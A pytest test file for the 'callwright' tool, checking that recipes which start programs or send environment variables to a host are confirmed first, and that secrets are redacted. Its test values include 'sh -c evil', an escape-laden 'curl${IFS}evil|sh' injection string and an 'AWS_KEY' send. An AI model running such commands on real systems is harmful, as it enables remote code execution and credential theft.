"""What a recipe would start or send is shown and asked about, before anything of it is made."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import tomllib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import structlog
from click.testing import CliRunner, Result

import callwright as cw
from callwright.cli.root import root as root_command
from callwright.commands import trust
from callwright.commands.app import App
from callwright.registration import Reach

MADE: list[str] = []


def reaches(options: Mapping[str, Any]) -> Iterator[Reach]:
    if options.get("command"):
        yield Reach("process", f"starts: {options['command']}", ("command",))
    if options.get("host"):
        yield Reach("secret", f"sends $MINE to {options['host']}", ("host", "variable"))


def starter(command: str = "", host: str = "", variable: str = "") -> Any:
    MADE.append(command or host)
    return cw.environment("starter", tools=[])


def trainer(command: str = "", steps: int = 1) -> Any:
    from cli_fakes import Slow

    MADE.append(f"trainer {command}")
    return Slow(steps)


@pytest.fixture
def plugins(registry: cw.Registry, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> cw.Registry:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    MADE.clear()
    environments = cw.hookimpl(lambda: [cw.Lazy("starter", starter, "starts", reaches=reaches)])
    dry = cw.hookimpl(lambda: [cw.Lazy("dry-starter", trainer, "starts", reaches=dry_reaches)])
    registry.add(SimpleNamespace(callwright_environments=environments, callwright_trainers=dry), name="starters")
    return registry


def dry_reaches(options: Mapping[str, Any]) -> Iterator[Reach]:
    yield Reach("process", "starts: a checker", ("name",), dry_run=True)


@pytest.fixture
def asking(tmp_path: Path, recipe: Path) -> Path:
    """A recipe that asks for a program."""
    recipe.write_text(recipe.read_text() + '\n[environment]\nname = "starter"\ncommand = "sh -c evil"\n')
    return recipe


@pytest.fixture
def at(plugins: cw.Registry, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Result]:
    """The command line, with ``answer`` at a terminal."""

    def run(*words: Any, answer: str | None = None) -> Result:
        monkeypatch.setattr(trust, "at_terminal", lambda: answer is not None)
        words = tuple(map(str, words))
        return CliRunner().invoke(
            root_command, words, obj=App(registry=plugins), input=answer or "", catch_exceptions=False
        )

    return run


def lines_of(path: Path) -> list[str]:
    return path.read_text().splitlines() if path.exists() else []


def test_without_a_terminal_it_is_refused_before_anything_is_made(at: Any, asking: Path, tmp_path: Path) -> None:
    result = at("run", asking, "-o", tmp_path / "run")
    assert result.exit_code == 2
    line = next(n for n, text in enumerate(lines_of(asking), 1) if text.startswith("command"))
    assert f"  {asking}:{line}: environment 'starter' starts: sh -c evil\n" in result.stderr
    assert "give --yes" in result.stderr
    assert MADE == []
    assert not (tmp_path / "run").exists()


def test_where_its_keys_are_wrong_nothing_is_made_to_see_what_else_is(at: Any, asking: Path, recipe: Path) -> None:
    result = at("run", asking, "--dry-run", "--set", "foo=1")
    assert result.exit_code == 2
    assert result.stderr.startswith("error: --set foo=1: There is no recipe key named 'foo'.")
    assert MADE == []
    recipe.write_text(recipe.read_text().replace("command = ", "host = ").replace('"sh -c evil"', '""'))
    assert at("run", recipe, "--dry-run", "--set", "foo=1").exit_code == 2
    assert MADE == [""]  # it reaches for nothing, so that it is made


def test_yes_allows_it_and_going_on_with_the_run_asks_nothing(at: Any, asking: Path, tmp_path: Path) -> None:
    folder = tmp_path / "run"
    result = at("run", asking, "-o", folder, "--yes")
    assert result.exit_code == 0, result.stderr
    assert "starts: sh -c evil" in result.stderr
    assert at("run", folder).exit_code == 0
    assert at("run", asking, "-o", folder).exit_code == 0
    assert at("run", asking, "-o", tmp_path / "other").exit_code == 2
    with (folder / "recipe.toml").open("a") as file:
        file.write("# changed\n")
    assert at("run", folder).exit_code == 2


def test_a_run_folder_from_elsewhere_is_asked_about(at: Any, asking: Path, tmp_path: Path) -> None:
    at("run", asking, "-o", tmp_path / "run", "--yes")
    (tmp_path / "run").rename(tmp_path / "moved")
    MADE.clear()
    for words in (["run"], ["rescore"], ["lab"]):
        assert at(*words, tmp_path / "moved").exit_code == 2
    assert MADE == []


@pytest.mark.parametrize(
    ("answer", "status"), [("no\n", 2), ("\n", 2), ("what\nyes\n", 0), ("always\n", 0), ("y\n", 0)]
)
def test_an_answer_at_a_terminal(at: Any, asking: Path, tmp_path: Path, answer: str, status: int) -> None:
    result = at("run", asking, "-o", tmp_path / "run", answer=answer)
    assert result.exit_code == status, result.stderr
    assert bool(MADE) == (status == 0)
    again = at("run", asking, "-o", tmp_path / "other").exit_code
    assert again == (0 if answer == "always\n" else 2)


def test_always_is_for_this_recipe_in_this_folder(at: Any, asking: Path, tmp_path: Path) -> None:
    at("run", asking, "-o", tmp_path / "run", answer="always\n")
    (tmp_path / "copy").mkdir()
    copy = tmp_path / "copy" / asking.name
    copy.write_text(asking.read_text())
    assert at("run", copy, "-o", tmp_path / "b").exit_code == 2
    asking.write_text(asking.read_text().replace("evil", "worse"))
    assert at("run", asking, "-o", tmp_path / "c").exit_code == 2
    path = tmp_path / "config" / "callwright" / "trusted"
    assert path.stat().st_mode & 0o077 == 0
    assert all(set(json.loads(line)) == {"folder", "recipe"} for line in lines_of(path))


def test_a_damaged_file_of_answers_allows_nothing(at: Any, asking: Path, tmp_path: Path) -> None:
    path = tmp_path / "config" / "callwright" / "trusted"
    path.parent.mkdir(parents=True)
    path.write_bytes(b'\xff\n[]\n{"folder": 1}\nnull\n' + b"[" * 100_000)
    assert at("run", asking, "-o", tmp_path / "run").exit_code == 2
    path.write_text('[]\n{"folder": 1}\nnull\n')
    assert at("run", asking, "-o", tmp_path / "run").exit_code == 2


def test_what_the_user_sets_is_the_users(at: Any, recipe: Path, asking: Path, tmp_path: Path) -> None:
    own = "environment.command=sh -c mine"
    assert at("run", asking, "-o", tmp_path / "a", "--set", own).exit_code == 0
    assert at("run", asking, "-o", tmp_path / "b", "--set", "trainer.steps=2").exit_code == 2
    assert at("run", asking, "-o", tmp_path / "c", "--set", own, "--set", "environment.host=h").exit_code == 0
    asking.write_text(asking.read_text() + 'variable = "AWS_KEY"\n')
    refused = at("run", asking, "-o", tmp_path / "d", "--set", own, "--set", "environment.host=h")
    assert refused.exit_code == 2
    assert "starts:" not in refused.stderr
    assert "sends $MINE to h" in refused.stderr


def test_a_recipe_that_came_with_the_package_is_not_asked_about(
    at: Any, asking: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trust, "shipped_recipes", lambda: {"sums": asking})
    copy = tmp_path / "copy.toml"
    copy.write_text(asking.read_text())
    assert at("run", copy, "-o", tmp_path / "run").exit_code == 0
    copy.write_text(asking.read_text() + "# changed\n")
    assert at("run", copy, "-o", tmp_path / "other").exit_code == 2


def test_a_dry_run_shows_and_asks_only_for_what_it_does_itself(at: Any, asking: Path, recipe: Path) -> None:
    result = at("run", asking, "--dry-run")
    assert result.exit_code == 0
    assert "starts: sh -c evil" in result.stderr
    recipe.write_text(recipe.read_text().replace('"slow"', '"dry-starter"'))
    MADE.clear()
    assert at("run", recipe, "--dry-run").exit_code == 2
    assert MADE == []
    assert at("run", recipe, "--dry-run", "--yes").exit_code == 0


def test_an_evaluation_asks_too(at: Any, asking: Path) -> None:
    words = ("evaluate", "--recipe", asking, "--sampler", "gold", "--limit", 1, "--temperature", 0)
    assert at(*words).exit_code == 2
    assert MADE == []
    assert "starts: sh -c evil" in at(*words, "--yes").stderr
    assert MADE != []


def test_nothing_of_a_recipe_hides_in_what_is_shown(at: Any, asking: Path) -> None:
    hidden = r'"x\u001b[2K\r\n\u202e ://;curl${IFS}evil|sh;@ sk-12345678901"'
    asking.write_text(asking.read_text().replace('"sh -c evil"', hidden))
    result = at("run", asking)
    assert result.exit_code == 2
    (line,) = [line for line in result.stderr.splitlines() if "starts:" in line]
    assert line.endswith(r"starts: x\x1b[2K\r\n\u202e ://;curl${IFS}evil|sh;@ sk-12345678901")


def test_a_declaration_that_fails_stops_the_command(at: Any, recipe: Path, plugins: cw.Registry) -> None:
    def broken(options: Mapping[str, Any]) -> Any:
        raise KeyError("oops")

    hook = cw.hookimpl(lambda: [cw.Lazy("odd", starter, "odd", reaches=broken)])
    plugins.add(SimpleNamespace(callwright_environments=hook), name="odd")
    recipe.write_text('environment = "odd"\n' + recipe.read_text())
    result = at("run", recipe)
    assert result.exit_code == 4
    assert "plugin 'odd': what 'odd' reaches for cannot be told: KeyError" in result.stderr
    assert MADE == []


def test_a_server_of_a_strange_recipe_is_not_started(recipe: Path, tmp_path: Path) -> None:
    touched = tmp_path / "touched"
    # JSON's lists of texts are TOML's too.
    command = json.dumps(["sh", "-c", f"touch {touched}"])
    recipe.write_text(recipe.read_text() + f'\n[environment]\nname = "mcp"\ncommand = {command}\n')
    support = str(Path(__file__).parents[1] / "support")
    words = [sys.executable, "-m", "callwright", "-p", "cli_fakes", "run", str(recipe), "-o", str(tmp_path / "run")]
    env = {**os.environ, "PYTHONPATH": support, "XDG_CONFIG_HOME": str(tmp_path)}
    done = subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL, env=env)
    assert done.returncode == 2, done.stderr
    assert f"environment 'mcp' starts: sh -c 'touch {touched}'" in done.stderr
    master, slave = pty.openpty()
    with subprocess.Popen(words, stdin=slave, stdout=slave, stderr=slave, env=env) as process:
        os.close(slave)
        os.write(master, b"no\n")
        said = b""
        while b"nothing was started" not in said:
            said += os.read(master, 4096)
        assert process.wait() == 2
    os.close(master)
    assert b"Go on? yes, no, or always" in said
    assert not touched.exists()


# Secrets --------------------------------------------------------------------------------------------------------------


def test_secrets_of_a_recipe_are_in_no_file_of_its_run(at: Any, recipe: Path, tmp_path: Path) -> None:
    url = "http://me:hunter2@127.0.0.1/v1?key=q1w2e3"
    recipe.write_text(recipe.read_text() + f'\n[environment]\nname = "starter"\nvariable = "{url}"\n')
    folder, shown = tmp_path / "run", "--set=model.token=t0ps3cret"
    result = at("run", recipe, "-o", folder, "--set", "model.token=t0ps3cret", shown)
    assert result.exit_code == 0, result.stderr
    plan = at("run", recipe, "--dry-run")
    everything = plan.output + result.output
    everything += "".join(path.read_text() for path in folder.rglob("*") if path.is_file())
    assert "REDACTED@127.0.0.1" in everything
    assert not any(secret in everything for secret in ("hunter2", "q1w2e3", "t0ps3cret"))
    assert tomllib.loads((folder / "recipe.toml").read_text())["environment"]["name"] == "starter"
    # The folder alone cannot go on, and says so; with the recipe that it was begun with it does.
    alone = at("run", folder)
    assert alone.exit_code == 2
    assert "a secret was left out" in alone.stderr
    again = at("run", recipe, "-o", folder, "--set", "model.token=t0ps3cret")
    assert again.exit_code == 0, again.stderr


def test_secrets_of_a_sampler_are_in_no_settings(at: Any, tmp_path: Path, plugins: cw.Registry) -> None:
    def gold(url: str = "", ir: str = "json") -> Any:
        return plugins.create("sampler", "gold")

    hook = cw.hookimpl(lambda: [cw.Lazy("golden", gold, "gold of a server")])
    plugins.add(SimpleNamespace(callwright_samplers=hook), name="golden")
    words = ("evaluate", "--corpus", "sums-v1", "--sampler", "golden", "-o", tmp_path / "e", "--sampler-option")
    for _ in range(2):  # it goes on under the same settings
        result = at(*words, "url=http://me:hunter2@h/?api_key=q1w2e3")
        assert result.exit_code == 0, result.stderr
    everything = result.output + "".join(path.read_text() for path in (tmp_path / "e").rglob("*") if path.is_file())
    assert "http://REDACTED@h/?api_key=REDACTED" in everything
    assert not any(secret in everything for secret in ("hunter2", "q1w2e3"))


def test_logs_and_errors_hold_no_secrets(capsys: pytest.CaptureFixture[str]) -> None:
    from callwright.cli.failures import report
    from callwright.cli.logging import configure

    configure(json_lines=True)
    log = structlog.get_logger()
    log.warning("http://u:hunter2@h", reason=ValueError("Bearer q1w2e3r4"), where={"password": "t0ps3cret"})
    report(cw.CallwrightError("http://u:hunter2@h"), with_traceback=True)
    said = capsys.readouterr().err
    assert said.count("http://REDACTED@h") == 3
    assert not any(secret in said for secret in ("hunter2", "q1w2e3r4", "t0ps3cret"))
    structlog.reset_defaults()
